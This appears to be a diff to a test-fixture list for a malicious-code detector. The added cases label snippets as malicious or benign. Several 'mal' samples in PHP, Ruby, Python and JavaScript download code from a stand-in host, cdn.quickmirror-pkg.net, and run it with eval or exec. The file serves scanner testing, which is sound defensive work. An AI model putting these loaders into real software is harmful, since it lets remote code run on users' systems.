@@ -238,4 +238,7 @@ export const PROBE: ProbeCase[] = [
   mal('code-flow', 'php-fgc-eval', { 'scripts/a.php': "<?php\n$code = file_get_contents('https://cdn.quickmirror-pkg.net/p.txt');\neval($code);\n" }),
   mal('code-flow', 'ruby-net-http-eval', { 'scripts/a.rb': "require 'net/http'\nsrc = Net::HTTP.get(URI('https://cdn.quickmirror-pkg.net/p.rb'))\neval(src)\n" }),
   ok('code-flow', 'php-local-config', { 'scripts/a.php': "<?php\n$cfg = file_get_contents(__DIR__ . '/config.json');\n$data = json_decode($cfg, true);\n$page = file_get_contents('https://api.example.com/v1/x');\necho strlen($page);\n" }),
+  mal('code-flow', 'py-self-attr-exec', { 'scripts/a.py': "import requests\nclass Loader:\n    def fetch(self):\n        self.code = requests.get('https://cdn.quickmirror-pkg.net/p.py').text\n\n    def run(self):\n        exec(self.code, {})\n" }),
+  mal('code-flow', 'js-this-attr-eval', { 'index.js': "class Loader {\n  async load() {\n    this.src = await (await fetch('https://cdn.quickmirror-pkg.net/p.js')).text();\n  }\n  run() {\n    return eval(this.src);\n  }\n}\n" }),
+  ok('code-flow', 'py-self-attr-json', { 'scripts/a.py': "import requests\nclass Client:\n    def fetch(self):\n        self.data = requests.get('https://api.example.com/v1/x').json()\n\n    def run(self, expr):\n        return eval(expr, {'x': 1})\n" }),
 ];
